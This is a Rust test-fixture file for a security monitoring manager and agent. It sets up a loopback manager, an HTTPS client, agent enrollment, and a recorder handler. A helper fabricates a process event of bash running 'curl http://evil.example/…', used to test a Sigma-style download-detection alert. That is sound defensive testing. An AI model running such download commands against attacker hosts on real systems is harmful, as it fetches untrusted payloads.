//! Test fixtures: a manager on loopback (SQLite in a temp dir, or a private
//! PostgreSQL cluster started here), a test agent built on vigie-uplink, and
//! an HTTPS client that trusts the manager's CA.
#![allow(dead_code)]

use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use serde_json::Value;
use vigie_event::{
    Alert, Event, Host, Level, Payload, Process, ProcessAction, ProcessEvent, ProcessSummary,
    RuleRef,
};
use vigie_manager::{Config, Manager, ManagerHandle};
use vigie_uplink::{
    Command as AgentCommand, CommandHandler, CommandOutcome, Options, Uplink, UplinkHandle,
};

pub enum Db {
    Sqlite,
    Postgres(PgCluster),
}

impl Db {
    pub fn url(&self) -> Option<String> {
        match self {
            Db::Sqlite => None,
            Db::Postgres(pg) => Some(pg.url()),
        }
    }
}

// The PostgreSQL fixture is shared with other crates' tests.
pub use test_support::PgCluster;

pub struct TestManager {
    pub handle: Option<ManagerHandle>,
    pub data: tempfile::TempDir,
    pub config: Config,
    pub admin_token: String,
    pub client: reqwest::Client,
}

pub async fn start_manager(db: &Db) -> TestManager {
    start_manager_with(db, |_| {}).await
}

/// [`start_manager`], with `tweak` applied to the configuration (e.g. agents
/// listening on a namespace's address; used by vigie-agent's tests).
pub async fn start_manager_with(db: &Db, tweak: impl FnOnce(&mut Config)) -> TestManager {
    let data = tempfile::Builder::new()
        .prefix("vigie-mgr-")
        .tempdir()
        .unwrap();
    let mut config = Config::new(data.path());
    config.database_url = db.url();
    config.listen = "127.0.0.1:0".parse().unwrap();
    config.agent_listen = "127.0.0.1:0".parse().unwrap();
    tweak(&mut config);
    let handle = Manager::start(config.clone())
        .await
        .expect("manager starts");
    // Fix the ports so a restart (outage test) comes back on the same ones.
    config.listen = handle.api_addr;
    config.agent_listen = handle.agent_addr;
    let first = handle
        .first_start
        .clone()
        .expect("first start creates the admin");
    let ca = reqwest::Certificate::from_pem(handle.core.pki.ca_pem.as_bytes()).unwrap();
    let client = reqwest::Client::builder()
        .add_root_certificate(ca)
        .timeout(Duration::from_secs(60))
        .build()
        .unwrap();
    let mut m = TestManager {
        handle: Some(handle),
        data,
        config,
        admin_token: String::new(),
        client,
    };
    let r = m
        .post(
            "/api/v1/login",
            None,
            serde_json::json!({"username": first.admin_user, "password": first.admin_password}),
        )
        .await;
    assert_eq!(r.0, 200, "{:?}", r.1);
    m.admin_token = r.1["token"].as_str().unwrap().to_string();
    m
}

impl TestManager {
    pub fn h(&self) -> &ManagerHandle {
        self.handle.as_ref().expect("manager running")
    }
    pub fn url(&self, path: &str) -> String {
        format!("https://localhost:{}{}", self.config.listen.port(), path)
    }
    pub fn agent_url(&self) -> String {
        format!("https://localhost:{}", self.config.agent_listen.port())
    }
    pub async fn get(&self, path: &str, token: Option<&str>) -> (u16, Value) {
        let mut r = self.client.get(self.url(path));
        if let Some(t) = token {
            r = r.bearer_auth(t);
        }
        let resp = r.send().await.unwrap();
        let code = resp.status().as_u16();
        (code, resp.json().await.unwrap_or(Value::Null))
    }
    pub async fn post(&self, path: &str, token: Option<&str>, body: Value) -> (u16, Value) {
        let mut r = self.client.post(self.url(path)).json(&body);
        if let Some(t) = token {
            r = r.bearer_auth(t);
        }
        let resp = r.send().await.unwrap();
        let code = resp.status().as_u16();
        (code, resp.json().await.unwrap_or(Value::Null))
    }
    pub async fn enroll_token(&self, org: &str, ttl_ms: i64) -> String {
        let core = &self.h().core;
        let (_, secret) = core.store.create_enroll_token(org, ttl_ms).await.unwrap();
        format!("{secret}.{}", core.pki.ca_fingerprint())
    }
    /// A test agent of the default organisation, enrolled and connected
    /// (commands recorded, default options). Keep the returned dir alive.
    pub async fn connected_agent(&self) -> (UplinkHandle, String, tempfile::TempDir) {
        let dir = tempfile::tempdir().unwrap();
        let token = self.enroll_token("default", 3_600_000).await;
        let id = Uplink::enroll(&self.agent_url(), &token, dir.path())
            .await
            .unwrap();
        let up = Uplink::start(dir.path(), Recorder::default(), Options::default())
            .await
            .unwrap();
        assert!(up.wait_connected(Duration::from_secs(20)).await);
        (up, id.host_id, dir)
    }

    pub async fn stop(&mut self) {
        if let Some(h) = self.handle.take() {
            h.shutdown().await;
        }
    }
    pub async fn restart(&mut self) {
        let h = Manager::start(self.config.clone())
            .await
            .expect("manager restarts");
        self.handle = Some(h);
    }
    pub async fn wait_counts(
        &self,
        org: &str,
        events: i64,
        alerts: i64,
        timeout: Duration,
    ) -> (i64, i64) {
        let store = &self.h().core.store;
        let deadline = std::time::Instant::now() + timeout;
        loop {
            let e = store.count("events", org).await.unwrap();
            let a = store.count("alerts", org).await.unwrap();
            if (e >= events && a >= alerts) || std::time::Instant::now() > deadline {
                return (e, a);
            }
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
    }
}

/// The test agent's command handler: records commands, reports success.
/// (The real agent verifies isolation with nftables; see vigie-agent.)
#[derive(Clone, Default)]
pub struct Recorder(pub Arc<Mutex<Vec<AgentCommand>>>);

impl CommandHandler for Recorder {
    async fn handle(&self, command: AgentCommand) -> CommandOutcome {
        let what = format!("{:?} done by the test agent", command.action);
        self.0.lock().unwrap().push(command);
        CommandOutcome::ok(what)
    }
}

pub fn exec_event(host: &str, n: u64) -> Event {
    let parent = ProcessSummary {
        entity_id: "p-1".into(),
        pid: 100,
        name: "bash".into(),
        executable: "/usr/bin/bash".into(),
        command_line: "bash".into(),
        ..Default::default()
    };
    let process = Process {
        entity_id: format!("e-{n}"),
        pid: 1000 + n as u32,
        name: "curl".into(),
        executable: "/usr/bin/curl".into(),
        command_line: format!("curl http://evil.example/{n}"),
        args: vec!["curl".into(), format!("http://evil.example/{n}")],
        parent: Some(std::sync::Arc::new(parent)),
        ..Default::default()
    };
    Event::new(
        chrono::Utc::now(),
        Host::named(host),
        Payload::Process(ProcessEvent {
            action: ProcessAction::Exec,
            process,
            target: None,
            error: None,
        }),
    )
}

pub fn alert_for(event: &Event) -> Alert {
    Alert {
        id: uuid::Uuid::now_v7(),
        time: event.time,
        host: event.host.clone(),
        rule: RuleRef {
            id: "test-curl-download".into(),
            name: "Download with curl".into(),
            level: Some(Level::High),
            attack: vec!["T1105".into()],
            ruleset: "sigma".into(),
            ..Default::default()
        },
        events: vec![event.clone()],
    }
}

pub fn state_dir(parent: &Path, name: &str) -> PathBuf {
    parent.join(name)
}
